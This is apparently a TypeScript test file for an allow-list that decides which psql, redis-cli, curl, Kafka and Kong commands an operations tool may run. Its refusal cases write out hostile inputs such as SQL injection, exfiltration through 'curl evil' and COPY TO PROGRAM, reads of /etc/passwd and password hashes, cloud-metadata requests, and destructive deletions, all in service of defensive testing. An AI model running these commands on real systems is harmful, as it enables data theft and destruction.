import { describe, expect, it } from 'vitest'
import { isReadOnlySql, mayChange, mayRead } from './exec-allow-list'

const READ_ONLY = 'SET default_transaction_read_only = on'
const reading = (sql: string) => ['psql', '-X', '--csv', '-c', READ_ONLY, '-c', sql]
const changing = (sql: string) => ['psql', '-X', '-c', sql]

describe('what operations send is let through', () => {
  it.each<[string[]]>([
    [reading('SELECT state, count(*) FROM pg_stat_activity GROUP BY state')],
    [reading("SELECT count(*) FILTER (WHERE state = 'idle; DROP TABLE x') FROM pg_stat_activity")],
    [reading('WITH a AS (SELECT 1) SELECT * FROM a;')],
    [reading('SHOW max_connections')],
    [reading('SELECT count(*) AS "open sessions", \'it\'\'s "quoted"\' AS b FROM pg_stat_activity')],
    [
      [
        'psql',
        '-X',
        '--csv',
        '-d',
        'aic_production',
        '-c',
        READ_ONLY,
        '-c',
        'SELECT 1',
        '-c',
        'SHOW log_statement',
      ],
    ],
    [['/usr/bin/psql', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['pg_isready', '-h', 'postgresql.storage', '-p', '5432']],
    [['pg_restore', '-l', '/backup/latest.dump']],
    [['ls', '-l', '--full-time', '/backup/latest.dump']],
    [['redis-cli', 'PING']],
    [['redis-cli', 'INFO', 'memory']],
    [['redis-cli', '--scan', '--pattern', 'cache:*']],
    [['redis-cli', 'CONFIG', 'GET', 'maxmemory-policy']],
    [['redis-cli', 'MEMORY', 'USAGE', 'cache:1']],
    [['kafka-topics.sh', '--describe', '--bootstrap-server', 'localhost:9092']],
    [
      [
        '/opt/kafka/bin/kafka-consumer-groups.sh',
        '--describe',
        '--all-groups',
        '--bootstrap-server',
        'localhost:9092',
      ],
    ],
    [['cat', '/sys/fs/cgroup/memory.current', '/sys/fs/cgroup/memory.max']],
    [['free', '-h']],
    [['kong', 'health']],
    [['curl', '-s', '-m', '5', 'http://localhost:8080/health']],
    [['curl', '-s', 'http://backend-api.backend-services:80/health']],
  ])('reads: %j', (argv) => {
    expect(mayRead(argv)).toBe(true)
    expect(mayChange(argv)).toBe(false)
  })

  it.each<[string[]]>([
    [changing('SELECT pg_reload_conf()')],
    [['psql', '-X', '-c', "ALTER SYSTEM SET log_statement = 'all'", '-c', 'SELECT pg_reload_conf()']],
    [changing('ALTER SYSTEM RESET log_min_duration_statement')],
    [changing('SELECT pg_wal_replay_resume()')],
    [
      changing(
        "SELECT count(pg_terminate_backend(pid)) AS ended FROM pg_stat_activity WHERE state = 'idle in transaction' AND state_change < now() - interval '60 seconds' AND pid <> pg_backend_pid()",
      ),
    ],
    [changing('CREATE DATABASE "aic_production_new"')],
    [changing('ALTER DATABASE "a_new" RENAME TO "a"')],
    [changing('ALTER DATABASE "a" ALLOW_CONNECTIONS false')],
    [['redis-cli', 'FLUSHDB']],
    [['redis-cli', 'UNLINK', 'cache:1', 'cache:2']],
    [['curl', '-s', '-X', 'POST', 'http://localhost:8080/cache/refresh']],
    [['kong', 'reload']],
    [['pg_dump', '-Fc', '-f', '/backup/latest.dump', 'aic_production']],
    [['pg_restore', '-d', 'aic_new', '--single-transaction', '/backup/latest.dump']],
  ])('changes: %j', (argv) => {
    expect(mayChange(argv)).toBe(true)
    expect(mayRead(argv)).toBe(false)
  })
})

describe('everything else is refused', () => {
  it.each<[string[]]>([
    // Shells, and programs that are not what their name says.
    [[]],
    [['']],
    [['sh', '-c', 'redis-cli FLUSHALL']],
    [['bash']],
    [['env', 'psql', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['/tmp/psql', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['./redis-cli', 'PING']],
    [['../../bin/redis-cli', 'PING']],
    [['redis-cli;sh', 'PING']],
    [['rm', '-rf', '/backup']],
    // SQL without a read-only session, or with more than reading in it.
    [['psql', '-c', 'SELECT 1']],
    [['psql', '-c', READ_ONLY]],
    [['psql', '-c', 'SELECT 1', '-c', READ_ONLY]],
    [['psql', '-c', 'SELECT 1', '-c', 'SELECT 2']],
    [['psql', '-c', 'SET default_transaction_read_only = off', '-c', 'SELECT 1']],
    [['psql', '-c', READ_ONLY, '-c', 'SELECT 1', '-c', 'SET default_transaction_read_only = off']],
    [['psql', '-f', '/tmp/x.sql', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['psql', '-h', 'elsewhere', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['psql', '-o', '/tmp/x', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['psql', '-d', 'host=evil dbname=x', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [['psql', '-d', 'postgresql://evil/x', '-c', READ_ONLY, '-c', 'SELECT 1']],
    [reading('SELECT 1; DROP TABLE users')],
    [reading('SELECT 1; SELECT 2')],
    [reading('SELECT 1; RESET default_transaction_read_only')],
    [reading('SELECT 1; BEGIN READ WRITE')],
    [reading("SELECT 1; SET default_transaction_read_only = off; DELETE FROM users WHERE name = ''")],
    [reading('\\! rm -rf /')],
    [reading('SELECT 1 \\gexec')],
    [reading("COPY users TO PROGRAM 'curl evil'")],
    [reading("SELECT * FROM (COPY users TO '/tmp/x') a")],
    [reading('DO $$ BEGIN DELETE FROM users; END $$')],
    [reading('SELECT 1 /* */; DROP TABLE users')],
    [reading('SELECT 1 -- x')],
    [reading('SELECT 1 INTO stolen FROM users')],
    [reading('WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone')],
    [reading("SELECT pg_read_file('/etc/passwd')")],
    [reading("SELECT pg_ls_dir('/')")],
    [reading("SELECT lo_export(1, '/tmp/x')")],
    [reading("SELECT dblink('host=evil', 'SELECT 1')")],
    [reading('SELECT pg_terminate_backend(pid) FROM pg_stat_activity')],
    [reading('SELECT pg_sleep(1000)')],
    // A quote inside a quoted name opens no string, so nothing between two of them is hidden.
    [reading('SELECT 1 AS "\'", pg_sleep(9) AS "\'"')],
    [
      reading(
        'SELECT 1 AS "\'"; SET default_transaction_read_only = off; DROP TABLE users; SELECT 1 AS "\'"',
      ),
    ],
    [reading('SELECT 1 AS "a;b"')],
    // Functions that run the text they are given, and where passwords are kept.
    [reading("SELECT * FROM ts_stat('SELECT pg_terminate_backend(1)')")],
    [reading('SELECT rolpassword FROM pg_authid')],
    [reading('SELECT U&"p\\0067_sleep"(1)')],
    [reading("SELECT set_config('log_statement', 'all', false)")],
    [reading("SELECT E'\\'; DROP TABLE users; --'")],
    [reading('SELECT * FROM users FOR UPDATE')],
    [reading('SHOW max_connections; DROP TABLE users')],
    [reading('EXPLAIN ANALYZE DELETE FROM users')],
    [changing("ALTER SYSTEM SET log_statement = 'all'; DROP TABLE users")],
    [changing("ALTER SYSTEM SET archive_command = 'curl evil'")],
    [changing('DROP DATABASE "a"; DROP DATABASE "b"')],
    [changing('CREATE DATABASE "a" TEMPLATE "b"')],
    [changing('SELECT pg_terminate_backend(1)')],
    // Redis.
    [['redis-cli', 'EVAL', 'return 1', '0']],
    [['redis-cli', 'CONFIG', 'SET', 'dir', '/tmp']],
    [['redis-cli', 'CONFIG', 'GET', 'requirepass']],
    [['redis-cli', 'CONFIG', 'GET', '*']],
    [['redis-cli', 'KEYS', '*']],
    [['redis-cli', 'GET', 'session:1']],
    [['redis-cli', 'MEMORY', 'PURGE']],
    [['redis-cli', 'SHUTDOWN']],
    [['redis-cli', 'SLAVEOF', 'evil', '6379']],
    [['redis-cli', 'DEBUG', 'SEGFAULT']],
    [['redis-cli', '-h', 'evil', 'PING']],
    [['redis-cli', '--scan', '--pattern', 'a', '--eval', 'x.lua']],
    [['redis-cli', 'FLUSHALL', 'ASYNC']],
    [['redis-cli', 'UNLINK']],
    // curl.
    [['curl', 'http://169.254.169.254/latest/meta-data/']],
    [['curl', 'http://10.0.0.1/']],
    [['curl', 'http://evil.example.com/']],
    [['curl', 'http://localhost@evil.example.com/']],
    [['curl', 'http://localhost\\@evil/']],
    [['curl', 'http://[::1]/']],
    [['curl', 'file:///etc/passwd']],
    [['curl', '-o', '/tmp/x', 'http://localhost/']],
    [['curl', '-d', '@/etc/passwd', 'http://localhost/']],
    [['curl', '-K', '/tmp/conf', 'http://localhost/']],
    [['curl', '-x', 'http://evil', 'http://localhost/']],
    [['curl', '-L', 'http://localhost/']],
    [['curl', 'http://localhost/', 'http://backend-api.shop/']],
    [['curl', '-X', 'DELETE', 'http://localhost/']],
    [['curl', '-X', 'POST', 'http://backend-api.shop/orders']],
    [['curl']],
    // Files.
    [['cat', '/etc/passwd']],
    [['cat', '/sys/fs/cgroup/memory.current', '/etc/passwd']],
    [['cat', '/sys/fs/cgroup/../../../etc/passwd']],
    [['cat']],
    [['ls', '/etc']],
    [['ls', '/backup/../etc']],
    [['pg_dump', '-Fc', '-f', '/etc/cron.d/x', 'a']],
    [['pg_dump', '-Fc', '-f', '/backup/../etc/x', 'a']],
    [['pg_restore', '-l', '/tmp/a.dump']],
    [['pg_restore', '-d', 'a', '--single-transaction', '/tmp/evil.dump']],
    [['pg_restore', '-d', 'a', '--clean', '/backup/a.dump']],
    [['pg_isready', '-h', 'a b; rm']],
    // Kafka and Kong.
    [['kafka-topics.sh', '--delete', '--topic', 'a', '--bootstrap-server', 'localhost:9092']],
    [['kafka-topics.sh', '--list', '--command-config', '/etc/passwd']],
    [['kafka-consumer-groups.sh', '--reset-offsets', '--to-latest', '--execute', '--all-groups']],
    [['kafka-topics.sh']],
    [['kong', 'stop']],
    [['kong', 'reload', '-c', '/tmp/conf']],
  ])('%j', (argv) => {
    expect(mayRead(argv)).toBe(false)
    expect(mayChange(argv)).toBe(false)
  })
})

describe('isReadOnlySql', () => {
  it('looks through strings, and not into them', () => {
    expect(isReadOnlySql("SELECT 'delete; it''s only a word'")).toBe(true)
    expect(isReadOnlySql("SELECT 'a' || delete_all() -- '")).toBe(false)
  })

  it('is not taken in by names that only begin like forbidden words', () => {
    expect(isReadOnlySql('SELECT updated_at, created_by FROM orders')).toBe(true)
    expect(isReadOnlySql('SELECT * FROM inserts')).toBe(true)
  })
})
